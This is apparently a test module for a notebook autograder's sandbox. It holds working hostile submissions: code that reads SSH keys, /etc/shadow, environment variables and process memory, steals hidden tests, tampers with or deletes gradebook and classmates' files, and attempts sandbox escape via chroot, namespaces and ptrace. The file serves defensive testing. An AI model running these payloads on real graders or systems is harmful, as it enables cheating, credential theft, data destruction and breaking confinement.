"""Code that reads, writes or reaches what is not its own."""

from __future__ import annotations

from tests.attacks.attack import Attack, answers, code, themed


def _prints(*paths: str) -> str:
    """Code that prints files, in several ways."""
    return (
        f"import os, subprocess\nfor path in {list(paths)!r}:\n"
        "    try:\n        print(open(path, 'rb').read())\n    except OSError as error:\n        print(error)\n"
        "    try:\n"
        "        print(subprocess.run(['cat', path], capture_output=True, timeout=5).stdout)\n"
        "    except Exception as error:\n        print(error)\n"
    )


_ENVIRONMENT = """\
import glob, os
print(dict(os.environ))
print(os.environ.get("@VARIABLE@"))
for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        print([part for part in open(path, "rb").read().split(b"\\0") if b"PLANTED" in part])
    except OSError:
        pass
"""

_PROCESSES = """\
import glob, os
for path in glob.glob("/proc/[0-9]*"):
    for name in ("cmdline", "environ"):
        try:
            text = open(f"{path}/{name}", "rb").read()
            if b"canary" in text:
                print(path, name, text)
        except OSError:
            pass
    for link in [f"{path}/cwd", f"{path}/root", *glob.glob(f"{path}/fd/*")]:
        try:
            place = os.readlink(link)
            if place.endswith(("gradebook.db", "@ASSIGNMENT@")) or "kata" in place or "course" in place:
                print(link, place)
                for name in ("gradebook.db", "source/kata/kata.ipynb", "submitted/@NEIGHBOR@/kata/kata.ipynb"):
                    for above in (link, f"{link}/..", f"{link}/../..", f"{link}/../../.."):
                        if os.path.exists(f"{above}/{name}"):
                            print(open(f"{above}/{name}", "rb").read())
        except OSError:
            pass
"""

_MEMORY = """\
import os, re
def scan(process):
    found = set()
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps:
            region, rights = line.split()[:2]
            start, end = (int(part, 16) for part in region.split("-"))
            if "r" not in rights or "w" not in rights or end - start > 80_000_000:
                continue
            try:
                memory.seek(start)
                text = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found |= set(re.findall(rb"canary-(?!hidden-tests)[a-z-]{4,20}[0-9a-f]{6,12}", text))
    return found
def parent(process):
    with open(f"/proc/{process}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])
process = os.getppid()
for _ in range(4):
    try:
        print(process, scan(process))
        process = parent(process)
    except OSError as error:
        print(error)
        break
"""

_OWN_MEMORY = """\
import gc, sys
seen = set()
def look(text, where):
    for mark in ("canary" + "-hidden", "canary" + "-gradebook", "canary" + "-environment", "7389" + "0461584"):
        at = text.find(mark)
        if at >= 0:
            print(where, text[at:at + 60])
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for value in list(thing.values()):
            if isinstance(value, str) and "mark" not in value:
                look(value, "dict")
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
        if type(value) in (str, bytes, list, dict, tuple):
            text = repr(value)[:2_000_000]
            if "def look" not in text:
                look(text, "frame")
    frame = frame.f_back
"""

_SPY = {
    "square": """\
import inspect, sys
SEEN = []
class Spy:
    def __eq__(self, other):
        SEEN.append(other)
        print("expected", other)
        frame = sys._getframe()
        while frame is not None:
            try:
                print(inspect.getsource(frame.f_code))
            except Exception:
                pass
            frame = frame.f_back
        return True
    def __ne__(self, other):
        SEEN.append(other)
        return False
    def __getattr__(self, name):
        return lambda *given: SEEN.append(given) or True
def square(x):
    return Spy()
""",
    "rate": "rate = Spy()",
    "words": "def words(text):\n    print(SEEN)\n    raise ValueError(repr(SEEN))",
}

_HISTORY = {
    "words": """\
import inspect, linecache, sys
def words(text):
    try:
        shell = get_ipython()
        print(shell.user_ns.get("In"), shell.user_ns.get("_ih"))
        print(list(shell.history_manager.get_range(raw=True)))
    except Exception as error:
        print(error)
    print({name: "".join(entry[2]) for name, entry in linecache.cache.items() if "kata" in name or "ipython" in name})
    for frame in inspect.stack():
        print(frame.code_context, frame.frame.f_locals.get("source"))
    return 0
"""
}

_TRANSFORMER = """\
def shows(lines):
    print("".join(lines))
    return lines
try:
    get_ipython().input_transformers_cleanup.append(shows)
    get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
except Exception as error:
    print(error)
"""

_SEARCH = """\
import os, time
ends = time.monotonic() + 2
for top in ("@COURSE@", "/root", "/home", "/tmp", "/var/tmp", "/srv", "/work", "/run", "/mnt", "/dev/shm"):
    for folder, _, names in os.walk(top):
        if time.monotonic() > ends:
            break
        for name in names:
            if name.startswith((".planted", "gradebook")) or name.endswith(("kata.ipynb", ".txt")):
                path = os.path.join(folder, name)
                try:
                    text = open(path, "rb").read(2_000_000)
                except OSError:
                    continue
                at = text.find(b"canary-")
                if at >= 0:
                    print(path, text[at:at + 60])
"""

_OPEN_FILES = """\
import os
for number in range(256):
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError:
        pass
    if number > 2:
        try:
            print(number, os.pread(number, 100_000, 0))
        except OSError:
            pass
        try:
            again = os.open(f"/proc/self/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
            print(number, os.read(again, 100_000))
        except OSError:
            pass
"""

_CONNECTS = """\
import socket
def talk(kind, address):
    with socket.socket(kind) as link:
        link.settimeout(1)
        link.connect(address)
        print(link.recv(1000))
for kind, address in ((socket.AF_INET, (@ADDRESS@, @PORT@)), (socket.AF_UNIX, "\\0@SOCKET@")):
    try:
        talk(kind, address)
    except Exception as error:
        print(error)
try:
    import urllib.request
    print(urllib.request.urlopen("http://@URL@:@PORT@/", timeout=1).read())
except Exception as error:
    print(error)
"""

_TAMPERS = """\
import sqlite3
try:
    book = sqlite3.connect("@GRADEBOOK@", timeout=1)
    with book:
        book.execute("UPDATE grade SET manual_score = 1000, needs_manual_grade = 0")
        book.execute("UPDATE grade_cells SET max_score = 0")
        book.execute("UPDATE student SET last_name = 'changed'")
        book.execute("DELETE FROM source_cell")
except Exception as error:
    print(error)
"""

_DESTROYS = """\
import os, shutil
for path in ("@OTHER@", "@SOURCE@"):
    try:
        with open(path, "w") as file:
            file.write("destroyed")
    except OSError as error:
        print(error)
for path in ("submitted/@NEIGHBOR@", "autograded/@NEIGHBOR@", "source"):
    shutil.rmtree("@COURSE@/" + path, ignore_errors=True)
"""

_WRITES = """\
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "@COURSE@", os.path.dirname("@HOME@"), "..", "@COURSE@/autograded"):
    for make in (lambda path: open(path, "w").close(), os.mkdir, lambda path: os.symlink("/etc", path)):
        try:
            make(f"{folder}/@LEFT@-{id(make)}")
        except OSError:
            pass
"""

_OWN_LINKS = """\
import os
for name, target in (
    ("gradebook-link.db", "@GRADEBOOK@"), ("home-link.txt", "@HOME@"), ("source-link", "@SOURCE@"),
    ("course", "@COURSE@"),
):
    try:
        os.symlink(target, name)
        os.link(target, name + ".hard")
    except OSError as error:
        print(error)
for path in ("kata.ipynb", "notes.txt"):
    try:
        os.replace(path, path + ".old")
        os.symlink("@HOME@", path)
    except OSError as error:
        print(error)
"""

_OWN_NOTEBOOK = """\
import glob, os
for path in [*glob.glob("*.ipynb"), *glob.glob("/**/@STUDENT@/**/*.ipynb")][:10]:
    try:
        print(path, len(open(path).read()))
        open(path, "w").write("changed")
    except OSError as error:
        print(error)
"""

_ESCAPES = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
alone = libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
print("unshare", alone, ctypes.get_errno())
if alone == 0:
    print("mount", libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), ctypes.get_errno())
for path in ("/proc/1/root", "/proc/self/root", f"/proc/{os.getppid()}/root"):
    for name in ("@HOME@", "@GRADEBOOK@"):
        try:
            print(open(path + name, "rb").read()[:4000])
        except OSError as error:
            print(error)
try:
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print(open("@HOME@").read())
except OSError as error:
    print(error)
PTRACE_ATTACH = 16
if @HELD@:
    print("ptrace", libc.ptrace(PTRACE_ATTACH, os.getppid(), 0, 0), ctypes.get_errno())
"""

_SHELL = """\
!cat @HOME@ @SOURCE@ @OTHER@; strings @GRADEBOOK@ 2>/dev/null; cat @GRADEBOOK@; env
files = !cat @HOME@
print(files)
"""

_TO_RESULT = {
    "rate": """\
def read(path):
    try:
        return open(path, errors="replace").read()
    except OSError as error:
        return str(error)
rate = read("@HOME@") + read("@SOURCE@") + read("@OTHER@")
""",
    "words": "def words(text):\n    raise ValueError(rate)",
    "square": "def square(x):\n    return rate",
}

_NOTES = """\
import ctypes, glob, os, socket
note = ("canary" + "-note-" + "@LEFT@"[12:]).encode()
libc = ctypes.CDLL(None, use_errno=True)
found = []
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev", "/dev/mqueue", ".."):
    for path in glob.glob(f"{folder}/.*") + glob.glob(f"{folder}/*"):
        try:
            text = open(path, "rb").read(10_000)
            if note in text:
                found.append((path, text))
        except OSError:
            pass
    try:
        with open(f"{folder}/.@LEFT@-note", "wb") as file:
            file.write(note)
        os.chmod(f"{folder}/.@LEFT@-note", 0)
    except OSError:
        pass
held = ctypes.create_string_buffer(100)
ADD_KEY, KEYCTL, READ = 248, 250, 11
for keyring in (-1, -2, -3, -4, -5) if @HELD@ else ():
    key = libc.syscall(KEYCTL, 10, keyring, b"user", b"@LEFT@", 0)
    if key > 0 and libc.syscall(KEYCTL, READ, key, held, 100) > 0:
        found.append(("keyring", held.value))
    libc.syscall(ADD_KEY, b"user", b"@LEFT@", note, len(note), keyring)
libc.shmat.restype = ctypes.c_void_p
shared = libc.shmget(72_301, 4096, 0o1666) if @HELD@ else -1
if shared >= 0:
    place = libc.shmat(shared, None, 0)
    if place and place != ctypes.c_void_p(-1).value:
        found.append(("shared memory", ctypes.string_at(place, 40)))
        ctypes.memmove(place, note, len(note))
        if note in found[-1][1]:
            libc.shmctl(shared, 0, None)
os.makedirs("deep/" * 50, exist_ok=True)
os.chmod("deep", 0)
print(found)
"""

_NETWORK = _CONNECTS.replace("(@ADDRESS@, @PORT@)", "('@ADDRESS@', @PORT@)").replace("@URL@", "@ADDRESS@")
_LOOPBACK = _CONNECTS.replace("(@ADDRESS@, @PORT@)", "('127.0.0.1', @PORT@)").replace("@URL@", "localhost")

ATTACKS: tuple[Attack, ...] = themed(
    "Reading and reaching",
    [
        code(
            "reads-gradebook",
            "prints the gradebook",
            _prints("@GRADEBOOK@", "../../../gradebook.db", "gradebook.db"),
            honest=True,
            confined=True,
        ),
        code(
            "reads-source",
            "prints the instructor's notebook with its hidden tests",
            _prints("@SOURCE@", "../../../source/kata/kata.ipynb"),
            honest=True,
            confined=True,
        ),
        code(
            "reads-other",
            "prints another learner's submission",
            _prints("@OTHER@", "../../@NEIGHBOR@/kata/kata.ipynb"),
            honest=True,
            confined=True,
        ),
        code(
            "reads-home",
            "prints a file in the home folder, and passwords",
            _prints("@HOME@", "~/.ssh/id_rsa", "/etc/shadow"),
            honest=True,
            confined=True,
        ),
        code(
            "reads-environment",
            "prints the grader's environment variables",
            _ENVIRONMENT,
            honest=True,
            confined=True,
        ),
        code(
            "reads-processes",
            "looks through /proc for other processes' arguments and open files",
            _PROCESSES,
            honest=True,
            confined=True,
        ),
        code(
            "reads-memory",
            "looks through the memory of the processes above it",
            _MEMORY,
            honest=True,
            confined=True,
        ),
        code(
            "reads-own-memory",
            "looks through its own memory for hidden tests and expected values",
            _OWN_MEMORY,
            honest=True,
        ),
        code(
            "reads-open-files", "reads all files that it inherited", _OPEN_FILES, honest=True, confined=True
        ),
        code("searches", "searches the disk for secrets", _SEARCH, honest=True, confined=True),
        code("shell-reads", "reads with shell commands", _SHELL, honest=True, confined=True),
        answers(
            "reads-into-results",
            "carries what it read out in values and exceptions",
            _TO_RESULT,
            earns=0.0,
            confined=True,
        ),
        answers("spies-expected", "objects that note what they are compared with", _SPY, earns=0.0),
        answers(
            "spies-history",
            "looks for the tests in history, frames and line cache",
            _HISTORY,
            base="honest",
            earns=9.0,
        ),
        code("prints-tests", "prints every cell that is run", _TRANSFORMER),
        code(
            "connects-loopback",
            "connects to a server on loopback and an abstract Unix socket",
            _LOOPBACK,
            honest=True,
            confined=True,
        ),
        code(
            "connects-out",
            "connects to a server on this machine's network address",
            _NETWORK,
            honest=True,
            confined=True,
        ),
        code(
            "tampers-gradebook",
            "sets manual scores in the gradebook, its own and others'",
            _TAMPERS,
            honest=True,
            confined=True,
        ),
        code(
            "destroys-other",
            "destroys another learner's submission and the instructor's notebook",
            _DESTROYS,
            honest=True,
            confined=True,
        ),
        code(
            "writes-outside",
            "leaves files in /tmp, the home folder and the course",
            _WRITES,
            honest=True,
            confined=True,
        ),
        code(
            "links-at-run-time",
            "makes symlinks to secrets in its own folder while it runs",
            _OWN_LINKS,
            honest=True,
            confined=True,
        ),
        code(
            "changes-own-file",
            "changes the submitted file while it is graded",
            _OWN_NOTEBOOK,
            honest=True,
            confined=True,
        ),
        *(
            code(
                f"notes-{number}",
                "leaves notes for accomplices in folders, keyrings and shared memory, and looks for theirs",
                _NOTES,
                honest=True,
                confined=True,
            )
            for number in (1, 2, 3)
        ),
        code(
            "escapes",
            "leaves the sandbox by namespaces, chroot, mounts and ptrace",
            _ESCAPES,
            honest=True,
            confined=True,
        ),
    ],
)
